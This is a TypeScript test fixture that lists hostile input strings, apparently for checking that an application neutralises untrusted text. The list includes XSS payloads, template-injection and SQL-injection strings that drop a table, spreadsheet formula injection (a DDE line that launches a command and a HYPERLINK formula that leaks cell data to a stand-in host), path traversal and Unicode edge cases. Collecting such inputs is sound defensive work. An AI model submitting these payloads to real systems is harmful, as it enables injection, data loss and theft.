/** What runs, or leaves, where a text is taken for more than a text. */
export const PAYLOAD = `"'><img src=//evil.invalid/p onerror=__ran=1>`;

/** The same in a few letters, for the shortest of the fields. */
export const SHORT_PAYLOAD = '<svg/onload=__ran=1>';

/** The same kind and more, of all sorts: nothing of it may run, leave, or end the server. */
export const HOSTILE: readonly string[] = [
  PAYLOAD,
  '<script>__ran=1</script>',
  SHORT_PAYLOAD,
  '</title></textarea></style><script>__ran=1</script>',
  'javascript:__ran=1',
  '[click](javascript:__ran=1) ![x](http://evil.invalid/m.png)',
  'data:text/html,<script>__ran=1</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in.
  '${__ran=1} {{constructor.constructor("__ran=1")()}} #{__ran=1}',
  '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\n=1+1',
  '\u202egnp.exe\u202c \u2066x\u2069',
  'a\u200bb\u200d\ufeffc',
  'a\u0000b\u0007c',
  'lone \ud800 surrogate',
  `Z${'\u0301'.repeat(300)}`,
  'x'.repeat(100_000),
  '__proto__',
  'constructor',
  '%s%n%x {0} %00 ..%2f..%2f',
  "' OR 1=1; DROP TABLE site; --",
];
